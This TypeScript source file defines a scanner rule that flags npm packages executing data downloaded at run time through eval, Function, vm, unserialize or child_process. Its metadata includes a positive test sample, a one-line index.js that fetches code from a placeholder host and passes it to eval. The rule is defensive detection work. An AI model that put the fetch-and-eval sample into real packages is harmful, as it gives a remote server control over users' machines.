import { allEvents, at, callSeverity, eventTrigger, type JsRule } from '../../analysis/javascript/context.js';
import { SRC } from '../../analysis/javascript/sources.js';
import { defineRule } from '../types.js';

/** Bytes received from the network reach eval/Function/vm, a deserializer or a shell. */
export const remoteCodeExecution: JsRule = defineRule({
  meta: {
    id: 'npm/remote-code-execution',
    kind: 'threat',
    category: 'download-execute',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['npm'],
    description: 'Data downloaded at run time is executed (eval, new Function, vm, node-serialize unserialize, child_process).',
    examples: {
      positive: [{ files: { 'package.json': '{"name":"p"}', 'index.js': "require('https').get('https://x.invalid/p',r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>eval(b));});" } }],
      negative: [{ files: { 'package.json': '{"name":"p"}', 'index.js': "fetch('https://x.example/a').then(r=>r.json()).then(console.log);" } }],
    },
  },
  check(ctx, report) {
    for (const { file, e } of allEvents(ctx)) {
      if (e.kind !== 'sink' || (e.sink !== 'eval' && e.sink !== 'exec') || (e.taint & SRC.netdata) === 0) continue;
      if (e.sink === 'exec' && e.text !== undefined) continue; // a constant command with downloaded arguments is not code execution
      const trigger = eventTrigger(file, e);
      report(at(file, e, `Downloaded data is executed with ${e.name}.`, { severity: callSeverity(trigger, 'critical') }));
    }
  },
});
